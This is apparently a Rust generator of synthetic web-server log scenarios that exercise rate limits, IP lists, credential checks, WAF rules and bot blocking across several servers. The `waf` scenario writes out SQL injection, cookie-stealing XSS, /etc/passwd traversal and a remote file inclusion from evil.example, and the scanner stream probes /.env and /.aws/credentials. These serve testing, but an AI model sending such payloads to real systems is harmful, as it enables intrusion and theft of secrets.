//! Scenarios by seed: each mechanism in turn, on each server that can do it, with everything else by chance.
//!
//! What varies: the log's format and length (a minute to a week), when the spike begins and ends (at the edge
//! of the log too), the shape of its traffic, how many addresses it has, how clients take a denial, how far a
//! limit is exceeded (1.2 to 50 times), the ordinary traffic, and what else goes on: scanners, denials that
//! stand all day, a limiter that answers 429, a second spike that overlaps.

use crate::scenario::{
    Application, Denial, Event, LogFormat, Reaction, Scenario, ServerKind, Shape, Stream,
};
use ServerKind::{Apache, Caddy, Haproxy, Lighttpd, Nginx};
use forbid_logs::synth::Random;

/// What this program can send and two cores can answer.
const MOST_PER_REAL_SECOND: f64 = 700.0;

/// A way to deny, the servers that have it, and how a scenario of it is made.
struct Mechanism {
    name: &'static str,
    servers: &'static [ServerKind],
    build: fn(&mut Draft),
}

const fn mechanism(
    name: &'static str,
    servers: &'static [ServerKind],
    build: fn(&mut Draft),
) -> Mechanism {
    Mechanism {
        name,
        servers,
        build,
    }
}

const MECHANISMS: [Mechanism; 28] = [
    mechanism("limit_by_ip", &[Nginx], limit_by_ip),
    mechanism("sliding_window", &[Haproxy], sliding_window),
    mechanism("limit_by_token", &[Nginx, Haproxy], limit_by_token),
    mechanism("limit_by_user", &[Nginx], limit_by_user),
    mechanism("limit_for_all", &[Nginx], limit_for_all),
    mechanism("connections", &[Nginx, Haproxy], connections),
    mechanism("hold", &[Apache, Haproxy], hold),
    mechanism("fixed_window", &[Nginx, Apache], fixed_window),
    mechanism("ip_list", &[Nginx, Apache, Haproxy, Lighttpd], ip_list),
    mechanism("country_list", &[Nginx, Haproxy], country_list),
    mechanism(
        "route_denied",
        &[Nginx, Apache, Haproxy, Caddy, Lighttpd],
        route_denied,
    ),
    mechanism("no_index", &[Nginx, Apache, Lighttpd], no_index),
    mechanism(
        "file_permission",
        &[Nginx, Apache, Lighttpd],
        file_permission,
    ),
    mechanism("credential_revoked", &[Nginx, Apache], credential_revoked),
    mechanism("credential_missing", &[Nginx, Apache], credential_missing),
    mechanism("signed_link", &[Nginx, Apache], signed_link),
    mechanism("permission_plan", &[Nginx, Apache], permission_plan),
    mechanism("permission_role", &[Nginx], permission_role),
    mechanism("cors", &[Nginx], cors),
    mechanism("method", &[Nginx, Apache], method),
    mechanism("hotlink", &[Nginx, Lighttpd], hotlink),
    mechanism("csrf", &[Nginx, Apache], csrf),
    mechanism("content_type", &[Nginx, Apache], content_type),
    mechanism(
        "agent_list",
        &[Nginx, Apache, Haproxy, Caddy, Lighttpd],
        agent_list,
    ),
    mechanism("waf", &[Apache], waf),
    mechanism("challenge", &[Nginx], challenge),
    mechanism("distributed_bots", &[Nginx, Haproxy], distributed_bots),
    mechanism("none", &[Nginx, Apache, Haproxy], negative),
];

/// The scenarios of a seed.
pub fn generate(count: usize, seed: u64) -> Vec<Scenario> {
    let mut random = Random::new(seed ^ 0x6d61_7472_6978);
    (0..count)
        .map(|number| {
            let mechanism = &MECHANISMS[number % MECHANISMS.len()];
            let round = number / MECHANISMS.len();
            let server = mechanism.servers[round % mechanism.servers.len()];
            let mut draft = Draft::new(mechanism.name, server, number, Random::new(random.bits()));
            (mechanism.build)(&mut draft);
            draft.finish()
        })
        .collect()
}

/// A scenario in the making.
struct Draft {
    scenario: Scenario,
    random: Random,
    /// The busy time of the spike, in minutes.
    from: f64,
    until: f64,
    /// Whether the log is so short, or so long and thin, that rates have to fit to it.
    pace: f64,
}

impl Draft {
    fn new(name: &str, server: ServerKind, number: usize, mut random: Random) -> Draft {
        // Usual logs, a log of a minute, and a thin one of a week.
        let (minutes, factor, pace) = match random.below(12) {
            0 => (1.0, 3.0, 4.0),
            1 => (random.within(2880.0, 10_080.0), 6_000.0, 0.02),
            2 | 3 => (random.within(90.0, 150.0), 240.0, 1.0),
            _ => (random.within(30.0, 75.0), 120.0, 1.0),
        };
        // HAProxy's timers do not keep a clock that is much faster.
        let (minutes, factor, pace) = match server {
            Haproxy if factor > 120.0 => (random.within(30.0, 75.0), 120.0, 1.0),
            _ => (minutes, factor, pace),
        };
        let format = match random.below(4) {
            0 => LogFormat::Vhost,
            1 => LogFormat::Json,
            _ => LogFormat::Usual,
        };
        let (from, until) = match random.below(8) {
            0 => (0.0, random.within(0.2, 0.5)),
            1 => (random.within(0.5, 0.8), 1.0),
            _ => {
                let from = random.within(0.25, 0.5);
                (from, from + random.within(0.15, 0.4))
            }
        };
        Draft {
            scenario: Scenario {
                name: format!("{number:03}-{name}"),
                servers: vec![server],
                mechanism: name.to_string(),
                minutes,
                factor,
                format: if server == Nginx {
                    format
                } else {
                    LogFormat::Usual
                },
                background: random.within(0.8, 4.0) * pace,
                policies: Vec::new(),
                streams: Vec::new(),
                events: Vec::new(),
                application: Application::Plain,
                seed: random.bits(),
            },
            from: from * minutes,
            until: until * minutes,
            pace,
            random,
        }
    }

    /// Adds what else goes on.
    fn finish(mut self) -> Scenario {
        // One caller that waits longer and longer is no spike.
        for stream in &mut self.scenario.streams {
            if stream.denied == Reaction::BackOff && stream.addresses < 20 {
                stream.denied = Reaction::Retry;
            }
        }
        match self.random.below(5) {
            0 => self.scanners(),
            1 if self.scenario.server() != Caddy => self.standing_denials(),
            _ => {}
        }
        self.scenario
    }

    fn scanners(&mut self) {
        let paths = [
            "/.env",
            "/.git/config",
            "/wp-login.php",
            "/phpmyadmin/",
            "/.aws/credentials",
            "/admin.php",
        ];
        let mut stream = self.stream("scanners", "requests", &paths);
        (stream.from, stream.until) = (0.0, f64::INFINITY);
        stream.rate = 0.05 * self.pace;
        stream.addresses = 6;
        stream.spike = false;
        self.scenario.streams.push(stream);
    }

    fn standing_denials(&mut self) {
        self.deny("deny route under /legacy/");
        let mut stream = self.stream("standing", "java", &["/legacy/sync"]);
        (stream.from, stream.until) = (0.0, f64::INFINITY);
        stream.rate = 0.1 * self.pace;
        stream.shape = Shape::Regular;
        stream.spike = false;
        self.scenario.streams.push(stream);
    }

    /// A stream that is busy in the time of the spike, and the spike.
    fn stream(&mut self, name: &str, client: &str, paths: &[&str]) -> Stream {
        let shapes = [
            Shape::Random,
            Shape::Random,
            Shape::Regular,
            Shape::Bursts,
            Shape::Hill,
        ];
        let reactions = [
            Reaction::Ignore,
            Reaction::Ignore,
            Reaction::Retry,
            Reaction::BackOff,
            Reaction::GiveUp,
        ];
        let rate = self.random.within(0.6, 2.5) * self.pace;
        Stream {
            name: name.to_string(),
            client: client.to_string(),
            real: false,
            known_as: None,
            rate,
            from: self.from,
            until: self.until,
            calm: 0.0,
            shape: if self.scenario.minutes < 5.0 {
                Shape::Random
            } else {
                *self.random.pick(&shapes)
            },
            addresses: 1,
            network: None,
            method: "GET".to_string(),
            paths: paths.iter().map(ToString::to_string).collect(),
            denied: *self.random.pick(&reactions[..4]),
            headers: Vec::new(),
            user: None,
            referer: None,
            body: None,
            answer_s: 0.0,
            links_expire: None,
            spike: true,
            accept: Vec::new(),
        }
    }

    fn push(&mut self, stream: Stream) {
        self.scenario.streams.push(stream);
    }

    /// Others of the same kind, who are admitted.
    fn others(&mut self, like: &Stream, change: impl FnOnce(&mut Stream)) {
        let mut others = like.clone();
        others.name = "others".to_string();
        (others.from, others.until, others.calm) = (0.0, f64::INFINITY, 0.0);
        others.shape = Shape::Random;
        others.rate = self.random.within(0.3, 1.0) * self.pace;
        others.addresses = 6 + self.random.below(40);
        others.spike = false;
        change(&mut others);
        self.push(others);
    }

    fn deny(&mut self, rule: &str) {
        self.policy(Some(rule.to_string()), None, None, None);
    }

    fn feature(&mut self, feature: &str) {
        self.policy(None, Some(feature.to_string()), None, None);
    }

    /// A rule that comes into force with the spike, and is lifted when it ends if the log goes on.
    fn deny_meanwhile(&mut self, rule: String) {
        let from = Some(self.from).filter(|from| *from > 0.0);
        let until = Some(self.until).filter(|until| *until < self.scenario.minutes);
        self.policy(Some(rule), None, from, until);
    }

    fn policy(
        &mut self,
        rule: Option<String>,
        feature: Option<String>,
        from: Option<f64>,
        until: Option<f64>,
    ) {
        self.scenario.policies.push(Denial {
            rule,
            feature,
            cause: None,
            application: false,
            from,
            until,
        });
    }

    /// By how much a limit is exceeded: 1.2 to 50 times, small ones more often.
    fn overload(&mut self) -> f64 {
        1.2 * (50.0f64 / 1.2).powf(self.random.unit().powf(1.5))
    }

    fn program(&mut self) -> String {
        let programs = [
            "axios",
            "requests",
            "httpx",
            "okhttp",
            "go",
            "java",
            "node-fetch",
            "guzzle",
            "curl",
        ];
        self.random.pick::<&str>(&programs).to_string()
    }

    /// An allowed rate and the rate that exceeds it, in requests per second: about `usual` allowed, less where
    /// a machine could not send what exceeds it.
    fn exceeded(&mut self, usual: f64) -> (f64, f64) {
        let overload = self.overload();
        let most = MOST_PER_REAL_SECOND / self.scenario.factor;
        let allowed = (usual * self.pace.max(0.02)).min(most / overload);
        (allowed, allowed * overload)
    }

    /// The same with an allowed rate that nginx can say, and its text.
    fn exceeded_by_minute(&mut self, low: f64, high: f64) -> (String, f64) {
        let usual = self.random.within(low, high);
        let (allowed, offered) = self.exceeded(usual);
        let per_minute = (allowed * 60.0).round().max(1.0);
        (
            format!("{per_minute}/m"),
            offered.max(per_minute / 60.0 * 1.2),
        )
    }

    fn application(&mut self) {
        self.scenario.application = match self.random.below(2) {
            0 => Application::Express,
            _ => Application::Flask,
        };
    }
}

fn limit_by_ip(draft: &mut Draft) {
    let (text, offered) = draft.exceeded_by_minute(0.3, 3.0);
    let burst = draft.random.below(30);
    let route = draft
        .random
        .pick(&["/api/v1/search", "/login", "/api/v1/quotes"])
        .to_string();
    draft.deny(&format!("limit {text} burst {burst} per ip on {route}"));
    let client = draft.program();
    let mut stream = draft.stream("scraper", &client, &[&format!("{route}?q={{word}}")]);
    stream.addresses = 1 + draft.random.below(3);
    stream.rate = offered * stream.addresses as f64;
    draft.others(&stream, |others| others.client = "browser".to_string());
    draft.push(stream);
}

fn sliding_window(draft: &mut Draft) {
    let busy_s = (draft.until - draft.from) * 60.0;
    let window = *draft.random.pick(&[10.0f64, 30.0, 60.0, 300.0]);
    let window = window.min((busy_s / 4.0).floor()).max(2.0);
    let (allowed, offered) = draft.exceeded(1.5);
    let limit = (allowed * window).ceil().max(5.0);
    let offered = offered.max(limit / window * 1.5);
    draft.deny(&format!("limit {limit} in {window}s sliding per ip"));
    let client = draft.program();
    let mut stream = draft.stream(
        "importer",
        &client,
        &["/api/v1/items/{n}", "/api/v1/search?q={word}"],
    );
    stream.rate = offered;
    draft.push(stream);
}

fn limit_by_token(draft: &mut Draft) {
    let (text, offered) = draft.exceeded_by_minute(0.5, 3.0);
    let burst = 5 + draft.random.below(40);
    let limit = match draft.scenario.server() {
        Haproxy => format!(
            "limit {} in 30s sliding",
            (offered * 30.0 / 3.0).ceil().max(5.0)
        ),
        _ => format!("limit {text} burst {burst}"),
    };
    draft.deny(&format!("{limit} per token for route under /api/v1"));
    let client = draft.program();
    let in_url = draft.random.happens(0.3) && draft.scenario.server() == Nginx;
    let (paths, headers) = match in_url {
        true => (
            [
                "/api/v1/items/{n}?api_key=key-pro-77",
                "/api/v1/orders/{n}?api_key=key-pro-77",
            ],
            vec![],
        ),
        false => (
            ["/api/v1/items/{n}", "/api/v1/orders/{n}"],
            vec!["X-Api-Key: key-pro-77".to_string()],
        ),
    };
    let mut stream = draft.stream("importer", &client, &paths);
    stream.headers = headers;
    stream.addresses = 1 + draft.random.below(15);
    stream.rate = offered;
    draft.others(&stream, |others| {
        others.paths = vec![
            "/api/v1/items/{n}".to_string(),
            "/api/v1/orders/{n}".to_string(),
        ];
        others.headers = vec!["X-Api-Key: key-pro-{caller}00".to_string()];
        others.client = "okhttp".to_string();
    });
    draft.push(stream);
}

fn limit_by_user(draft: &mut Draft) {
    let (text, offered) = draft.exceeded_by_minute(0.3, 2.0);
    draft.deny(&format!(
        "limit {text} burst 10 per user for route under /reports"
    ));
    let client = draft.program();
    let mut stream = draft.stream("service", &client, &["/reports/{n}", "/reports/daily"]);
    stream.user = Some("svc_bi".to_string());
    stream.addresses = 1 + draft.random.below(6);
    stream.rate = offered;
    draft.others(&stream, |others| {
        others.user = Some("analyst{caller}".to_string());
        others.client = "browser".to_string();
    });
    draft.push(stream);
}

fn limit_for_all(draft: &mut Draft) {
    let (text, offered) = draft.exceeded_by_minute(2.0, 8.0);
    draft.deny(&format!("limit {text} burst 30 on /shop/tickets"));
    let mut stream = draft.stream("crowd", "browser", &["/shop/tickets"]);
    stream.addresses = 150 + draft.random.below(600);
    stream.rate = offered;
    stream.calm = offered * 0.02;
    draft.push(stream);
}

fn connections(draft: &mut Draft) {
    let most = 2 + draft.random.below(6);
    draft.deny(&format!(
        "limit {most} at once per ip for route under /export"
    ));
    let client = draft.program();
    let mut stream = draft.stream("mirror", &client, &["/export/part-{n}.zip"]);
    stream.answer_s = draft.random.within(4.0, 12.0);
    stream.rate = most as f64 / stream.answer_s * draft.random.within(1.5, 6.0);
    stream.rate = stream
        .rate
        .min(MOST_PER_REAL_SECOND / draft.scenario.factor);
    draft.others(&stream, |others| others.rate *= 0.1);
    draft.push(stream);
}

fn hold(draft: &mut Draft) {
    let (count, span) = (5 + draft.random.below(15), 2 + draft.random.below(4));
    let hold = 20 + 20 * draft.random.below(6);
    draft.deny(&format!("hold {hold}s after {count} in {span}s per ip"));
    let client = draft.program();
    let mut stream = draft.stream("hammer", &client, &["/category/sale", "/products/{n}"]);
    let most = MOST_PER_REAL_SECOND / draft.scenario.factor;
    stream.rate = (count as f64 / span as f64 * draft.random.within(1.5, 6.0)).min(most);
    draft.push(stream);
}

fn fixed_window(draft: &mut Draft) {
    draft.application();
    let (allowed, offered) = draft.exceeded(1.2);
    let limit = (allowed * 60.0).ceil().max(3.0);
    let sliding = match draft.scenario.application {
        Application::Flask if draft.random.happens(0.5) => " sliding",
        _ => "",
    };
    draft.deny(&format!(
        "limit {limit} in 60s{sliding} per ip on /app/search"
    ));
    draft.scenario.policies[0].application = true;
    let client = draft.program();
    let mut stream = draft.stream("searcher", &client, &["/app/search?q={word}"]);
    stream.rate = offered.max(limit / 60.0 * 1.2);
    draft.others(&stream, |others| others.client = "browser".to_string());
    draft.push(stream);
}

fn ip_list(draft: &mut Draft) {
    let networks = ["47.76.0.0/16", "185.220.101.0/24", "114.119.128.0/18"];
    let network = draft.random.pick(&networks).to_string();
    draft.deny_meanwhile(format!("deny prefix {network}, 203.0.113.0/24"));
    let client = if draft.random.happens(0.5) {
        "browser".to_string()
    } else {
        draft.program()
    };
    let mut stream = draft.stream(
        "listed",
        &client,
        &["/products/{n}", "/category/sale", "/api/v1/items/{n}", "/"],
    );
    stream.network = Some(network);
    stream.addresses = 1 + draft.random.below(80);
    stream.calm = stream.rate;
    draft.push(stream);
}

fn country_list(draft: &mut Draft) {
    let networks = [
        "5.2.0.0/15",
        "31.40.0.0/14",
        "77.88.0.0/18",
        "91.200.0.0/16",
        "176.96.0.0/13",
        "212.46.0.0/17",
    ];
    draft.deny_meanwhile(format!("deny prefix {}", networks.join(", ")));
    let mut stream = draft.stream(
        "country",
        "browser",
        &["/products/{n}", "/", "/search?q={word}"],
    );
    stream.network = Some(networks.join(", "));
    stream.addresses = 100 + draft.random.below(200);
    stream.calm = stream.rate;
    draft.push(stream);
}

fn route_denied(draft: &mut Draft) {
    let route = draft
        .random
        .pick(&["/admin", "/internal", "/beta/checkout"])
        .to_string();
    draft.deny_meanwhile(format!("deny route under {route}/"));
    let client = if draft.random.happens(0.6) {
        "browser".to_string()
    } else {
        draft.program()
    };
    let paths = [
        format!("{route}/orders"),
        format!("{route}/users/{{n}}"),
        format!("{route}/"),
    ];
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    let mut stream = draft.stream("callers", &client, &paths);
    stream.addresses = 3 + draft.random.below(60);
    stream.calm = stream.rate;
    let mut elsewhere = stream.clone();
    draft.push(stream);
    elsewhere.name = "elsewhere".to_string();
    elsewhere.paths = vec!["/products/{n}".to_string(), "/account".to_string()];
    elsewhere.spike = false;
    draft.push(elsewhere);
}

fn no_index(draft: &mut Draft) {
    draft.feature("no_index");
    let mut stream = draft.stream("visitors", "browser", &["/files/"]);
    stream.addresses = 10 + draft.random.below(150);
    draft.push(stream);
}

fn file_permission(draft: &mut Draft) {
    draft.feature("file_permission");
    let client = draft.program();
    let mut stream = draft.stream("readers", &client, &["/private/ledger.txt"]);
    stream.addresses = 2 + draft.random.below(40);
    draft.push(stream);
}

fn credential_revoked(draft: &mut Draft) {
    draft.application();
    let at = draft.from.max(draft.scenario.minutes * 0.1);
    draft.scenario.events.push(Event {
        at,
        control: "revoke?token=key-pro-31".to_string(),
    });
    if draft.until < draft.scenario.minutes {
        draft.scenario.events.push(Event {
            at: draft.until,
            control: "restore?token=key-pro-31".to_string(),
        });
    }
    let client = draft.program();
    let mut stream = draft.stream(
        "etl",
        &client,
        &["/app/data/orders/{n}", "/app/data/users/{n}"],
    );
    stream.headers = vec!["X-Api-Key: key-pro-31".to_string()];
    stream.addresses = 1 + draft.random.below(5);
    stream.calm = stream.rate;
    draft.others(&stream, |others| {
        others.headers = vec!["X-Api-Key: key-pro-{caller}00".to_string()]
    });
    draft.push(stream);
}

fn credential_missing(draft: &mut Draft) {
    draft.application();
    let client = draft.program();
    let mut stream = draft.stream("caller", &client, &["/app/data/items/{n}"]);
    stream.addresses = 1 + draft.random.below(4);
    if draft.random.happens(0.5) {
        stream.headers = vec!["X-Api-Key: key-wrong-3".to_string()];
    }
    draft.others(&stream, |others| {
        others.headers = vec!["X-Api-Key: key-basic-{caller}".to_string()]
    });
    let mut keyed = stream.clone();
    keyed.name = "with-its-key".to_string();
    keyed.headers = vec!["X-Api-Key: key-basic-9".to_string()];
    keyed.rate *= 0.5;
    keyed.spike = false;
    draft.push(stream);
    draft.push(keyed);
}

fn signed_link(draft: &mut Draft) {
    draft.application();
    let expire = draft.from.max(draft.scenario.minutes * 0.1);
    let mut stream = draft.stream("sharers", "browser", &["/app/files/invoice-{n}.pdf"]);
    stream.links_expire = Some(expire);
    stream.addresses = 5 + draft.random.below(80);
    stream.calm = stream.rate;
    draft.others(&stream, |others| others.links_expire = Some(1e6));
    draft.push(stream);
}

fn permission_plan(draft: &mut Draft) {
    draft.application();
    let client = draft.program();
    let mut stream = draft.stream("basic", &client, &["/app/exports/{n}.csv"]);
    stream.headers = vec!["X-Api-Key: key-basic-5".to_string()];
    stream.addresses = 1 + draft.random.below(3);
    draft.others(&stream, |others| {
        others.headers = vec!["X-Api-Key: key-pro-{caller}".to_string()]
    });
    let mut elsewhere = stream.clone();
    elsewhere.name = "same-key-elsewhere".to_string();
    elsewhere.paths = vec!["/app/data/orders/{n}".to_string()];
    elsewhere.spike = false;
    draft.push(stream);
    draft.push(elsewhere);
}

fn permission_role(draft: &mut Draft) {
    draft.application();
    let mut stream = draft.stream(
        "viewers",
        "browser",
        &["/app/reports/daily", "/app/reports/{n}"],
    );
    stream.user = Some("viewer{caller}".to_string());
    stream.addresses = 2 + draft.random.below(10);
    draft.others(&stream, |others| {
        others.user = Some("analyst-{caller}".to_string())
    });
    let mut elsewhere = stream.clone();
    elsewhere.name = "same-users-elsewhere".to_string();
    elsewhere.paths = vec!["/app/home".to_string(), "/app/profile/{n}".to_string()];
    elsewhere.spike = false;
    draft.push(stream);
    draft.push(elsewhere);
}

fn cors(draft: &mut Draft) {
    draft.feature("cors");
    let mut stream = draft.stream("partner", "browser", &["/api/v1/orders", "/api/v1/cart"]);
    stream.method = "OPTIONS".to_string();
    stream.headers = vec![
        "Origin: https://new.example.org".to_string(),
        "Access-Control-Request-Method: POST".to_string(),
    ];
    stream.referer = Some("https://new.example.org/".to_string());
    stream.addresses = 10 + draft.random.below(100);
    draft.others(&stream, |others| {
        others.headers = vec![
            "Origin: https://shop.example.com".to_string(),
            "Access-Control-Request-Method: POST".to_string(),
        ];
        others.referer = Some("https://shop.example.com/".to_string());
    });
    draft.push(stream);
}

fn method(draft: &mut Draft) {
    match draft.scenario.server() {
        Nginx => draft.feature("read_only"),
        _ => draft.deny("deny method POST, PUT, PATCH, DELETE and route under /api/v1/catalog"),
    }
    let client = draft.program();
    let mut stream = draft.stream("writer", &client, &["/api/v1/catalog/{n}"]);
    stream.method = draft.random.pick(&["PUT", "POST", "DELETE"]).to_string();
    stream.body = Some("{}".to_string());
    stream.addresses = 1 + draft.random.below(8);
    draft.others(&stream, |others| {
        (others.method, others.body) = ("GET".to_string(), None)
    });
    draft.push(stream);
}

fn hotlink(draft: &mut Draft) {
    draft.feature("hotlink");
    let mut stream = draft.stream("forum", "browser", &["/static/img/hero-3.jpg"]);
    stream.referer = Some("https://forum.example.net/t/4411".to_string());
    stream.addresses = 40 + draft.random.below(300);
    draft.others(&stream, |others| {
        others.referer = Some("https://shop.example.com/".to_string())
    });
    draft.push(stream);
}

fn csrf(draft: &mut Draft) {
    draft.application();
    let mut stream = draft.stream("forms", "browser", &["/app/account/email"]);
    stream.method = "POST".to_string();
    stream.body = Some("email=a@example.com".to_string());
    stream.headers = vec!["Content-Type: application/x-www-form-urlencoded".to_string()];
    stream.referer = Some("https://shop.example.com/account".to_string());
    stream.addresses = 10 + draft.random.below(90);
    draft.others(&stream, |others| {
        (others.method, others.body) = ("GET".to_string(), None);
        others.paths = vec!["/app/form".to_string(), "/app/account".to_string()];
    });
    draft.push(stream);
}

fn content_type(draft: &mut Draft) {
    draft.application();
    let client = draft.program();
    let mut stream = draft.stream("forms", &client, &["/app/items"]);
    stream.method = "POST".to_string();
    stream.body = Some("a=1".to_string());
    stream.headers = vec!["Content-Type: text/plain".to_string()];
    stream.addresses = 1 + draft.random.below(5);
    draft.others(&stream, |others| {
        others.headers = vec!["Content-Type: application/json".to_string()]
    });
    draft.push(stream);
}

fn agent_list(draft: &mut Draft) {
    let (name, client) = *draft.random.pick(&[
        ("GPTBot", "gptbot"),
        ("Bytespider", "bytespider"),
        ("CCBot", "ccbot"),
        ("AhrefsBot", "ahrefs"),
        ("python-requests", "requests"),
    ]);
    draft.deny_meanwhile(format!(
        "deny user_agent containing \"{name}\", \"PetalBot\""
    ));
    let mut stream = draft.stream(
        "bots",
        client,
        &["/blog/post-{n}", "/products/{n}", "/category/sale"],
    );
    stream.addresses = 1 + draft.random.below(40);
    stream.calm = stream.rate;
    draft.push(stream);
}

fn waf(draft: &mut Draft) {
    draft.feature("crs");
    let client = draft
        .random
        .pick(&["browser", "sqlmap", "nikto", "curl"])
        .to_string();
    let mut stream = draft.stream(
        "attacker",
        &client,
        &[
            "/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            "/products/{n}?id=1%20OR%201=1",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/download?file=../../../../etc/passwd",
            "/?page=http://evil.example/shell.txt",
            "/products/{n}",
            "/about",
        ],
    );
    stream.addresses = 1 + draft.random.below(30);
    draft.push(stream);
}

fn challenge(draft: &mut Draft) {
    draft.feature("challenge");
    let mut stream = draft.stream(
        "distributed",
        "browser",
        &["/products/{n}", "/search?q={word}"],
    );
    stream.addresses = 300 + draft.random.below(2500);
    draft.others(&stream, |others| {
        others.headers = vec!["Cookie: clearance=1f2e3d4c5b6a".to_string()];
        others.addresses = 120;
        others.rate *= 2.0;
    });
    draft.push(stream);
}

fn distributed_bots(draft: &mut Draft) {
    let agent = "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0";
    draft.deny("deny user_agent containing \"Firefox/52.0\"");
    let mut stream = draft.stream("botnet", agent, &["/login", "/products/{n}", "/cart"]);
    stream.addresses = 800 + draft.random.below(3000);
    stream.denied = Reaction::Ignore;
    draft.push(stream);
}

fn negative(draft: &mut Draft) {
    match draft.random.below(3) {
        // Denials all the time.
        0 => {
            draft.deny("deny route under /internal/");
            let mut stream = draft.stream("always", "prometheus", &["/internal/metrics"]);
            (stream.from, stream.until) = (0.0, f64::INFINITY);
            stream.shape = Shape::Regular;
            stream.denied = Reaction::Ignore;
            stream.rate = 0.3 * draft.pace;
            stream.addresses = 2;
            stream.spike = false;
            draft.push(stream);
        }
        // More traffic, and no more denials.
        1 => {
            let mut stream = draft.stream("crowd", "browser", &["/", "/products/{n}"]);
            stream.rate *= 6.0;
            stream.addresses = 400;
            stream.spike = false;
            draft.push(stream);
        }
        // Everything doubles, denials too.
        _ => {
            draft.deny("deny route under /internal/");
            let mut stream = draft.stream(
                "crowd",
                "browser",
                &[
                    "/",
                    "/products/{n}",
                    "/products/{n}",
                    "/products/{n}",
                    "/internal/x",
                ],
            );
            (stream.shape, stream.denied) = (Shape::Random, Reaction::Ignore);
            stream.calm = 1.0 * draft.pace;
            stream.rate = 2.0 * draft.pace;
            stream.addresses = 300;
            stream.spike = false;
            draft.push(stream);
        }
    }
}
